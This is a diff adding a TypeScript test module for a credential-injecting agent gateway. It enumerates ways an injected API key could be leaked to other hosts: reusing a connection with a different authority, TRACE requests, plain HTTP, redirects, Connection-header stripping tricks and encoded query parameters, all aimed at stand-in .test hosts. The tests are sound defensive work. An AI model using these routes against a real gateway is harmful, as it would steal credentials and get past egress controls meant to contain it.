@@ -1,0 +1,102 @@
+/** Ways to have a credential sent to somebody else, or shown: another host on the connection, redirects, TRACE, plain text. */
+import { openSecureTunnel, requestThrough } from "../../harness/agent-requests.ts";
+import { httpOver, openHttp2 } from "../../harness/http-over-socket.ts";
+import { arrives, head, sendInTls, sendInTunnel, sendToProxy, textOf } from "../attack-bytes.ts";
+import { placeholder } from "../canaries.ts";
+import { attempt } from "../technique.ts";
+import type { Technique } from "../technique.ts";
+
+const others = ["other.test", "unlisted.test", "query.test", "api.openai.com"];
+
+/** What an agent may send where a key is injected; none of it may travel. */
+const ownKeys = {
+  authorization: `Bearer ${placeholder}`,
+  "x-api-key": placeholder,
+  "api-key": placeholder,
+  "x-goog-api-key": placeholder,
+  "x-upstream-key": placeholder,
+};
+
+/** Where a credential arrives that is not the host's own, the request is misdirected. */
+export const credentialTheft: Technique = {
+  name: "credential-theft",
+  about: "a credential to another host, by redirect, TRACE or plain text",
+  prepare: async (rig) => {
+    const { run } = await rig.gateway("strict");
+    const target = "allowed.test:443";
+    const plainHead = (line: string) => head(line, "Host: plain-credential.test");
+    return {
+      control: () =>
+        arrives(rig, "allowed.test", async () =>
+          textOf(await requestThrough(run, "https://allowed.test/bytes/10", { headers: ownKeys })),
+        ),
+      isForbidden: ({ method, host }) => method === "TRACE" || host === "plain-credential.test",
+      attempts: [
+        ...others.map((host) =>
+          attempt(`${host} on the connection of allowed.test, HTTP/1.1`, async () => {
+            const socket = await openSecureTunnel(run, target);
+            try {
+              await httpOver(socket, { path: "/bytes/10", authority: "allowed.test" });
+              return textOf(await httpOver(socket, { path: "/bytes/10", authority: host }));
+            } finally {
+              socket.destroy();
+            }
+          }),
+        ),
+        ...others.map((host) =>
+          attempt(`${host} on the connection of allowed.test, HTTP/2`, async () => {
+            const connection = openHttp2(await openSecureTunnel(run, target, "h2"));
+            try {
+              await connection.request({ path: "/bytes/10", authority: "allowed.test" });
+              return textOf(await connection.request({ path: "/bytes/10", authority: host }));
+            } finally {
+              connection.close();
+            }
+          }),
+        ),
+        ...["TRACE", "trace", "Trace"].map((method) =>
+          attempt(method, () =>
+            sendInTls(run, target, head(`${method} /bytes/10 HTTP/1.1`, "Host: allowed.test")),
+          ),
+        ),
+        attempt("plain HTTP in absolute form", () =>
+          sendToProxy(run, plainHead("GET http://plain-credential.test/bytes/10 HTTP/1.1")),
+        ),
+        attempt("plain HTTP in a tunnel", () =>
+          sendInTunnel(run, "plain-credential.test:80", plainHead("GET /bytes/10 HTTP/1.1")),
+        ),
+        attempt("plain HTTP in a tunnel to port 443", () =>
+          sendInTunnel(run, target, head("GET /bytes/10 HTTP/1.1", "Host: allowed.test:443")),
+        ),
+        attempt("https in absolute form", () =>
+          sendToProxy(
+            run,
+            head("GET https://allowed.test/bytes/10 HTTP/1.1", "Host: allowed.test"),
+          ),
+        ),
+        ...[301, 302, 303, 307, 308].map((status) =>
+          attempt(`a redirect with ${status} is not followed`, async () =>
+            textOf(await requestThrough(run, `https://allowed.test/status/${status}`)),
+          ),
+        ),
+        ...["connection: x-upstream-key", "connection: close, x-upstream-key, authorization"].map(
+          (line) =>
+            attempt(`the credential named by "${line}"`, () =>
+              sendInTls(run, target, head("GET /bytes/10 HTTP/1.1", "Host: allowed.test", line)),
+            ),
+        ),
+        attempt("own keys beside the injected one", async () =>
+          textOf(await requestThrough(run, "https://allowed.test/bytes/11", { headers: ownKeys })),
+        ),
+        attempt("a parameter of the injected name, in other spellings", async () =>
+          textOf(
+            await requestThrough(
+              run,
+              `https://query.test/bytes/10?key=${placeholder}&%6bey=${placeholder}&k%65y=${placeholder}`,
+            ),
+          ),
+        ),
+      ],
+    };
+  },
+};
